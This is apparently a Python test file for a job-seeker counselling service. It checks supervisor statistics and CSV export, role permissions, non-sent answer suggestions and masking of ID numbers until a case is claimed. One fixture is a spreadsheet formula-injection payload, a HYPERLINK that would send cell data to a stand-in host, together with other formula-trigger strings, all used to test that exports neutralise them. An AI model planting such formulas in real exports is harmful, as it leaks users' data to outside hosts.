"""The supervisor's figures against a recount of the raw events, the export's safety, suggested answers, what is hidden before a claim."""

from __future__ import annotations

import csv
import io
import json
import math
from collections import Counter
from datetime import date, datetime, timedelta, timezone

import pytest

from jobseeker.errors import MalformedRequest, NotAllowed, NotOwner
from jobseeker.statistics import harmless, percentile
from tests.doubles.kit import NOW, Kit
from tests.unit.usecases.test_desk import claimed, here
from tests.unit.usecases.test_waiting import queue

pytestmark = pytest.mark.slow  # with `make test`


TODAY = date(2026, 11, 23)
FORMULA = '=HYPERLINK("//x.example"&A1)'


async def a_day(kit: Kit) -> None:
    """Three cases with different waits, one given back and re-opened, one tagged with a formula, and a conversation without a case."""
    mei = await here(kit, "mei")
    for minutes in (1, 4, 9):
        await queue(kit)
        kit.later(minutes * 60)
        number = (await kit.rows("SELECT max(id) FROM handoff_case"))[0][0]
        await kit.services.claim_case(mei, number)
    await kit.services.handle_case.tag(mei, 1, (FORMULA, "給付"))
    await kit.services.handle_case.wrap_up(mei, 2, outcome="answered")
    await kit.services.return_to_bot(mei, 2)
    alone = await kit.start()
    await kit.ask(alone, "可以領多少")


def read_csv(text: str) -> dict[tuple[str, ...], int]:
    """The export as a spreadsheet reads it."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["day", "office", "language", "measure", "key", "value"]
    return {tuple(row[:5]): int(row[5]) for row in rows[1:]}


async def test_the_export_equals_a_recount_of_the_raw_events(kit: Kit) -> None:
    await a_day(kit)
    boss = await kit.account("boss", role="supervisor")
    exported = read_csv(await kit.services.supervise.export(boss, TODAY, TODAY))

    def moment(at: str | datetime) -> datetime:  # SQLite gives text in UTC, PostgreSQL a moment
        return datetime.fromisoformat(at).replace(tzinfo=timezone.utc) if isinstance(at, str) else at

    def day(at: str | datetime) -> str:
        return (moment(at).astimezone(timezone.utc) + timedelta(hours=8)).date().isoformat()  # Taipei, by hand

    def listed(value: str | list[str]) -> list[str]:
        return list(json.loads(value)) if isinstance(value, str) else value

    recount: Counter[tuple[str, ...]] = Counter()
    opened: dict[int, tuple[str, datetime]] = {}
    waits: list[float] = []
    rows = await kit.rows(
        "SELECT audit.at, audit.action, c.id, c.office, c.reasons, c.tags, c.outcome FROM audit"
        " JOIN handoff_case c ON c.id = audit.case_id ORDER BY audit.id"
    )
    assert len(rows) > 6
    for at, action, case_id, office, reasons, tags, outcome in rows:
        place = (day(at), office, "zh")
        name = {"case.opened": "opened", "case.claimed": "claimed", "case.returned": "returned"}.get(action)
        if name:
            recount[(*place, name, "")] += 1
        if action == "case.opened":
            opened[case_id] = (office, moment(at))
            recount.update((*place, "reason", reason) for reason in listed(reasons))
            recount.update((*place, "tag", "'" + tag if tag.startswith("=") else tag) for tag in listed(tags))
            recount.update([(*place, "outcome", outcome)] if outcome else [])
        if action == "case.claimed":
            waits.append((moment(at) - opened[case_id][1]).total_seconds())
    office = opened[1][0]
    for percent in (50, 75, 90):
        rank = math.ceil(percent * len(waits) / 100)
        recount[TODAY.isoformat(), office, "zh", "wait_seconds", f"p{percent}"] = round(sorted(waits)[rank - 1])
    talked = await kit.rows("SELECT DISTINCT conversation_id FROM inbox")
    with_case = await kit.rows("SELECT DISTINCT conversation_id FROM handoff_case")
    recount[TODAY.isoformat(), "", "zh", "conversations", ""] = len(talked)
    recount[TODAY.isoformat(), "", "zh", "contained", ""] = len(set(talked) - set(with_case))
    assert exported == dict(recount)
    assert exported[TODAY.isoformat(), office, "zh", "opened", ""] == 3
    assert exported[TODAY.isoformat(), "", "zh", "contained", ""] == 1
    assert await kit.rows("SELECT count(*) FROM audit WHERE action = 'statistics.exported'") == [(1,)]


async def test_history_and_board(kit: Kit) -> None:
    await a_day(kit)
    await queue(kit)
    kit.later(30)
    boss = await kit.account("boss", role="supervisor")
    found = await kit.services.supervise.history(boss, TODAY, TODAY)
    assert found["totals"]["opened"] == 4
    assert found["totals"]["claimed"] == 3
    assert found["waits"] == {"p50": 240, "p75": 540, "p90": 540}
    assert found["containment"] == round(1 / 5, 4)
    assert found["reopen_rate"] == 0.0
    assert found["satisfaction"] is None
    assert [row["day"] for row in found["days"]] == [TODAY.isoformat()]
    board = await kit.services.supervise.board(boss)
    assert (board["waiting"], board["claimed"], board["longest_seconds"]) == (1, 2, 30)
    assert board["groups"] == [{"office": board["groups"][0]["office"], "language": "zh", "waiting": 1, "longest_seconds": 30}]  # fmt: skip
    other = await kit.services.supervise.history(boss, TODAY - timedelta(days=1), TODAY - timedelta(days=1))
    assert other["totals"]["opened"] == 0
    assert other["containment"] is None


async def test_what_did_not_help_is_not_contained(kit: Kit) -> None:
    alone = await kit.start()
    await kit.ask(alone, "可以領多少")
    boss = await kit.account("boss", role="supervisor")
    assert (await kit.services.supervise.history(boss, TODAY, TODAY))["containment"] == 1.0
    async with kit.services.store.write() as work:  # what the dialogue engine would have understood
        await work.connection.exec_driver_sql('UPDATE inbox SET understanding = \'{"label": "feedback_negative"}\'')
    assert (await kit.services.supervise.history(boss, TODAY, TODAY))["containment"] == 0.0


async def test_figures_are_for_supervisors(kit: Kit) -> None:
    mei, boss = await kit.account("mei"), await kit.account("boss", role="supervisor")
    for call in (
        kit.services.supervise.board(mei),
        kit.services.supervise.history(mei, TODAY, TODAY),
        kit.services.supervise.export(mei, TODAY, TODAY),
    ):
        with pytest.raises(NotAllowed):
            await call
    with pytest.raises(MalformedRequest):
        await kit.services.supervise.history(boss, TODAY, TODAY - timedelta(days=1))


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"])
def test_no_cell_is_a_formula(text: str) -> None:
    assert harmless(text) == "'" + text
    assert harmless("給付=60%") == "給付=60%"


def test_percentile_is_the_nearest_rank() -> None:
    assert [percentile([4, 1, 3, 2], percent) for percent in (25, 50, 51, 100)] == [1, 2, 3, 4]
    with pytest.raises(ValueError):
        percentile([], 50)


async def test_answers_are_suggested_to_the_counsellor_and_never_sent(kit: Kit) -> None:
    started, mei = await claimed(kit)
    await kit.say(started, "失業給付可以領多久")
    before = await kit.rows("SELECT count(*) FROM outbox")
    found = await kit.services.suggest_answers(mei, 1)
    assert "ui_duration" in [each["topic"] for each in found]
    assert all(each["text"] and each["title"] for each in found)
    assert len(found) <= 4
    assert await kit.rows("SELECT count(*) FROM outbox") == before
    with pytest.raises(NotOwner):
        await kit.services.suggest_answers(await kit.account("ann"), 1)


async def test_identifiers_are_hidden_in_every_part_until_claimed_and_every_view_is_audited(kit: Kit) -> None:
    secret = "A123456789"
    started = await queue(kit)
    received = await kit.say(started, "謝謝")
    await kit.work()
    mei = await here(kit, "mei")
    await kit.services.handle_case.note(mei, 1, "證號")
    async with kit.services.engines.writer.begin() as connection:  # as kept by a release that did not mask at write
        words = f"我的身分證是{secret}，電話0912345678"
        await connection.exec_driver_sql(f"UPDATE inbox SET text = '{words}' WHERE id = {received.inbox_id}")
        await connection.exec_driver_sql(f"UPDATE case_note SET text = '證號 {secret}'")
    file = await kit.services.read_case(mei, 1)
    assert file.masked
    shown = [*(line.text for line in file.transcript), *(note.text for note in file.notes), file.case.last_text]
    assert secret not in repr((shown, file.sheet, file.case.summary))
    assert "0912345678" not in repr((shown, file.sheet))
    assert "●" in repr(shown)
    await kit.services.claim_case(mei, 1)
    file = await kit.services.read_case(mei, 1)
    assert not file.masked
    assert secret in repr([line.text for line in file.transcript])
    assert await kit.rows("SELECT count(*) FROM audit WHERE action = 'case.viewed'") == [(2,)]
    assert NOW.date() == TODAY
